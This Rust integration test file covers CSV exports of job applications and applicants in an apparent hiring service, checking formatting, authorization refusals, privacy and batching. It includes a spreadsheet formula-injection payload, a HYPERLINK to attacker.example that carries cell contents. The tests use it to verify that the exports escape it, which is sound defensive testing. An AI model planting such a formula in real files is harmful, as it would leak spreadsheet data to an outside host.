//! CSV exports over real HTTP: a candidate's applications and a job's
//! applicants, read back by an independent RFC 4180 reader (the `csv`
//! crate); formula-like cells escaped; every refusal; and an export longer
//! than one batch, whole and in order.

use crate::common;

use careergraph::graphql::ids;
use common::{TestApp, apply_to, post_open_job, recruiter, sign_up};
use diesel_async::RunQueryDsl;
use serde_json::{Value, json};

/// GETs `path` with the bearer token when given.
pub async fn download(app: &TestApp, token: Option<&str>, path: &str) -> reqwest::Response {
    let mut request = app.client.get(app.url(path));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.expect("GET")
}

/// The records of a CSV body, header first.
pub fn records(body: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(body.as_bytes());
    reader.records().map(|record| record.expect("a well-formed record").iter().map(str::to_owned).collect()).collect()
}

/// The cell of `row` under `column` in `header`.
pub fn cell<'a>(header: &[String], row: &'a [String], column: &str) -> &'a str {
    let at = header.iter().position(|name| name == column).unwrap_or_else(|| panic!("no column {column}: {header:?}"));
    &row[at]
}

async fn graphql_ok(app: &TestApp, token: &str, query: &str, variables: Value) -> Value {
    let body = app.graphql_as(Some(token), query, variables).await;
    assert!(body.get("errors").is_none(), "{body}");
    body
}

const APPLY: &str = "mutation($input: ApplyToJobInput!) { applyToJob(input: $input) { application { id } } }";
const SAVE: &str = "mutation($input: SaveJobInput!) { saveJob(input: $input) { application { id } } }";
const TAG: &str = "mutation($input: TagApplicationInput!) { tagApplication(input: $input) { userErrors { code } } }";
const MOVE: &str = "mutation($input: UpdateApplicationStatusInput!) { updateApplicationStatus(input: $input) {
    userErrors { code } } }";

#[tokio::test]
async fn a_candidate_exports_their_applications_and_a_recruiter_their_jobs_applicants() {
    let app = TestApp::spawn().await;
    let rita = recruiter(&app, "rita@example.com").await;
    let ada = sign_up(&app, "ada@example.com").await;
    let engineer = post_open_job(&app, &rita, "Engineer, Platform").await;
    let designer = post_open_job(&app, &rita, "Designer").await;

    let formula = "=HYPERLINK(\"http://attacker.example/\"&A1,\"click\")";
    let applied = graphql_ok(
        &app,
        &ada,
        APPLY,
        json!({ "input": { "jobId": engineer, "notes": formula, "source": "@referral" } }),
    )
    .await;
    let application = applied["data"]["applyToJob"]["application"]["id"].as_str().unwrap().to_owned();
    graphql_ok(&app, &ada, TAG, json!({ "input": { "applicationId": application, "tags": ["rust", "remote, EU"] } }))
        .await;
    graphql_ok(&app, &rita, MOVE, json!({ "input": { "applicationId": application, "status": "SCREENING" } })).await;
    graphql_ok(&app, &ada, SAVE, json!({ "input": { "jobId": designer, "notes": "ask about \"hybrid\"\nnext week" } }))
        .await;

    let response = download(&app, Some(&ada), "/exports/applications.csv").await;
    assert_eq!(response.status(), 200);
    let headers = response.headers().clone();
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8; header=present");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"applications-") && disposition.contains(".csv\";"),
        "{disposition}"
    );
    assert_eq!(headers["cache-control"], "private, no-store");
    let body = response.text().await.unwrap();
    assert!(body.contains("\"'=HYPERLINK("), "the formula is written as text: {body}");
    assert!(body.split('\n').next().unwrap().ends_with('\r'), "records end in CRLF");
    let rows = records(&body);
    let (header, rows) = rows.split_first().unwrap();
    assert_eq!(rows.len(), 2, "{body}");
    let sent = &rows[0];
    assert_eq!(cell(header, sent, "application_id"), application);
    assert_eq!(cell(header, sent, "job_title"), "Engineer, Platform");
    assert_eq!(cell(header, sent, "company"), "Acme");
    assert_eq!(cell(header, sent, "status"), "SCREENING");
    assert_eq!(cell(header, sent, "notes"), format!("'{formula}"));
    assert_eq!(cell(header, sent, "source"), "'@referral");
    assert_eq!(cell(header, sent, "tags"), "rust; remote, EU");
    assert_eq!(cell(header, sent, "saved_at"), "", "applied at once: never saved");
    let applied_at = cell(header, sent, "applied_at");
    let screening_at = cell(header, sent, "screening_at");
    assert!(chrono::DateTime::parse_from_rfc3339(applied_at).is_ok(), "{applied_at}");
    assert!(screening_at >= applied_at && !screening_at.is_empty(), "{applied_at} then {screening_at}");
    assert_eq!(cell(header, sent, "offered_at"), "");
    let saved = &rows[1];
    assert_eq!(cell(header, saved, "status"), "SAVED");
    assert_eq!(cell(header, saved, "notes"), "ask about \"hybrid\"\nnext week");
    assert!(!cell(header, saved, "saved_at").is_empty());
    assert_eq!(cell(header, saved, "applied_at"), "");

    // The recruiter: the applicant, no private notes or tags, nothing saved.
    let path = format!("/exports/jobs/{engineer}/applicants.csv");
    let response = download(&app, Some(&rita), &path).await;
    assert_eq!(response.status(), 200);
    let body = response.text().await.unwrap();
    let rows = records(&body);
    let (header, rows) = rows.split_first().unwrap();
    assert!(!header.iter().any(|name| name == "notes" || name == "tags" || name == "saved_at"), "{header:?}");
    assert_eq!(rows.len(), 1, "{body}");
    assert_eq!(cell(header, &rows[0], "applicant"), "ada@example.com");
    assert_eq!(cell(header, &rows[0], "status"), "SCREENING");
    assert!(!body.contains("HYPERLINK"), "the candidate's notes stay private: {body}");
    let saved_only = download(&app, Some(&rita), &format!("/exports/jobs/{designer}/applicants.csv")).await;
    assert_eq!(records(&saved_only.text().await.unwrap()).len(), 1, "a saved application is not sent: header only");
}

/// The status and `extensions.code` of an error response.
async fn refused(response: reqwest::Response) -> (u16, String) {
    let status = response.status().as_u16();
    let body: Value = response.json().await.expect("a JSON error");
    (status, body["errors"][0]["extensions"]["code"].as_str().unwrap_or_default().to_owned())
}

#[tokio::test]
async fn exports_are_refused_to_anyone_but_their_owner() {
    let app = TestApp::spawn().await;
    let rita = recruiter(&app, "rita@example.com").await;
    let bob = recruiter(&app, "bob@example.com").await;
    let ada = sign_up(&app, "ada@example.com").await;
    let job = post_open_job(&app, &rita, "Engineer").await;
    apply_to(&app, &ada, &job).await;
    let draft = graphql_ok(
        &app,
        &rita,
        "mutation { createJob(input: { title: \"Secret\", description: \"d\", companyName: \"Acme\" }) { job { id } } }",
        json!({}),
    )
    .await;
    let draft = draft["data"]["createJob"]["job"]["id"].as_str().unwrap().to_owned();
    let applicants = |job: &str| format!("/exports/jobs/{job}/applicants.csv");

    assert_eq!(refused(download(&app, None, "/exports/applications.csv").await).await, (401, "UNAUTHENTICATED".into()));
    assert_eq!(
        refused(download(&app, Some("not-a-token"), "/exports/applications.csv").await).await,
        (401, "UNAUTHENTICATED".into())
    );
    assert_eq!(refused(download(&app, None, &applicants(&job)).await).await, (401, "UNAUTHENTICATED".into()));
    for (token, job, expected) in [
        (&bob, &job, (403, "FORBIDDEN")),
        (&ada, &job, (403, "FORBIDDEN")),
        (&bob, &draft, (404, "NOT_FOUND")),
        (&rita, &"not-an-id".to_owned(), (404, "NOT_FOUND")),
        (&rita, &ids::encode("Application", uuid::Uuid::now_v7()).0, (404, "NOT_FOUND")),
    ] {
        let (status, code) = refused(download(&app, Some(token), &applicants(job)).await).await;
        assert_eq!((status, code.as_str()), expected, "{job}");
    }
    // Another candidate's export holds only their own (none).
    let eve = sign_up(&app, "eve@example.com").await;
    let body = download(&app, Some(&eve), "/exports/applications.csv").await.text().await.unwrap();
    assert_eq!(records(&body).len(), 1, "header only: {body}");
}

#[tokio::test]
async fn an_export_longer_than_a_batch_comes_whole_and_in_order() {
    let app = TestApp::spawn().await;
    let ada = sign_up(&app, "ada@example.com").await;
    let viewer = app.graphql_as(Some(&ada), "{ viewer { id } }", json!({})).await;
    let (_, user) = ids::decode(viewer["data"]["viewer"]["id"].as_str().unwrap()).expect("a user id");
    const ROWS: i32 = 1234;
    let mut conn = app.db.connect().await;
    diesel::sql_query(
        "WITH company AS (INSERT INTO companies (id, name) VALUES (gen_random_uuid(), 'Bulk Co') RETURNING id),
         job AS (INSERT INTO jobs (id, company_id, title, status)
                 SELECT gen_random_uuid(), company.id, 'Job ' || n, 'OPEN' FROM company, generate_series(1, $2) n
                 RETURNING id, title)
         INSERT INTO applications (id, user_id, job_id, status, applied_at, created_at)
         SELECT gen_random_uuid(), $1, job.id, 'APPLIED', now(),
                now() - interval '1 day' + split_part(job.title, ' ', 2)::int * interval '1 second'
         FROM job",
    )
    .bind::<diesel::sql_types::Uuid, _>(user)
    .bind::<diesel::sql_types::Integer, _>(ROWS)
    .execute(&mut conn)
    .await
    .expect("seeding applications");

    let body = download(&app, Some(&ada), "/exports/applications.csv").await.text().await.unwrap();
    let rows = records(&body);
    let (header, rows) = rows.split_first().unwrap();
    assert_eq!(rows.len(), ROWS as usize);
    let titles: Vec<&str> = rows.iter().map(|row| cell(header, row, "job_title")).collect();
    let expected: Vec<String> = (1..=ROWS).map(|n| format!("Job {n}")).collect();
    assert_eq!(titles, expected, "every row once, in the order they were created");
}
